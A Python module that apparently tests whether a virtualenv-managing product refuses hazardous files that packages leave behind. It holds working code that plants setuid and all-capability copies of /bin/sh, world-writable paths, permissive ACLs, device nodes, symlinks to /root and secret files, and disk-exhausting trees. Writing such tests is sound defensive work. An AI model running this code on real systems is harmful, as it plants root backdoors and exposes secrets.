"""Leaves something of a KIND in the virtualenv that no package should leave."""

import os
import socket
import stat
import struct

from places import site_packages, virtualenvs


def attack(report):
    for virtualenv in virtualenvs():
        folder = site_packages(virtualenv)
        path = os.path.join(folder, "left-behind")
        try:
            KINDS[KIND](virtualenv, path)  # noqa: F821 - given
            report["did"].append(path)
        except OSError as error:
            report["refused"][path] = str(error)


def world_writable(virtualenv, path):
    os.mkdir(path)
    os.chmod(path, 0o777)
    with open(os.path.join(path, "module.py"), "w"):
        pass
    os.chmod(os.path.join(path, "module.py"), 0o666)


def set_uid(virtualenv, path):
    with open("/bin/sh", "rb") as shell, open(path, "wb") as file:
        file.write(shell.read())
    os.chmod(path, 0o6755)


def set_gid_directory(virtualenv, path):
    os.mkdir(path)
    os.chmod(path, 0o2775)


def access_list(virtualenv, path):
    # Source: linux/posix_acl_xattr.h: version 2; tag, permissions, id. Everyone called nobody
    # (65534) may write.
    entries = [(1, 7, -1), (2, 7, 65534), (4, 5, -1), (16, 7, -1), (32, 5, -1)]
    value = struct.pack("<I", 2) + b"".join(
        struct.pack("<HHI", tag, bits, number & 0xFFFFFFFF) for tag, bits, number in entries
    )
    os.mkdir(path)
    os.setxattr(path, "system.posix_acl_access", value)
    os.setxattr(path, "system.posix_acl_default", value)


def capability(virtualenv, path):
    with open("/bin/sh", "rb") as shell, open(path, "wb") as file:
        file.write(shell.read())
    os.chmod(path, 0o755)
    # Source: linux/capability.h: revision 2, effective; all of the first 32.
    os.setxattr(path, "security.capability", struct.pack("<IIIII", 0x02000001, 0xFFFFFFFF, 0, 0, 0))


def fifo(virtualenv, path):
    os.mkfifo(path)


def unix_socket(virtualenv, path):
    os.chdir(os.path.dirname(path))
    socket.socket(socket.AF_UNIX).bind(os.path.basename(path))


def device(virtualenv, path):
    os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))


def links_out(virtualenv, path):
    os.mkdir(path)
    for number, target in enumerate(("/root/canary", "/etc/canary", "/srv/victim/secrets.json")):
        os.symlink(target, os.path.join(path, f"{number}.py"))
    os.symlink("/root", os.path.join(path, "folder"))


def redirected_lib64(virtualenv, path):
    lib64 = os.path.join(virtualenv, "lib64")
    if os.path.islink(lib64):
        os.unlink(lib64)
    os.symlink("/root", lib64)
    with open(path, "w"):
        pass


def redirected_requirements(virtualenv, path):
    """Where the product keeps what it was made from, today."""
    for name in (".ready", "exported.txt", ".lock"):
        full = os.path.join(virtualenv, name)
        if os.path.lexists(full):
            os.unlink(full)
        os.symlink("/etc/canary", full)
    with open(path, "w"):
        pass


def sparse(virtualenv, path):
    with open(path, "wb") as file:
        file.truncate(1 << 40)


def deep(virtualenv, path):
    os.mkdir(path)
    os.chdir(path)
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/")


def many(virtualenv, path):
    os.mkdir(path)
    for number in range(50_000):
        os.close(os.open(os.path.join(path, str(number)), os.O_CREAT | os.O_WRONLY, 0o644))


KINDS = {
    each.__name__: each
    for each in (
        *(world_writable, set_uid, set_gid_directory, access_list, capability, fifo, unix_socket),
        *(device, links_out, redirected_lib64, redirected_requirements, sparse, deep, many),
    )
}
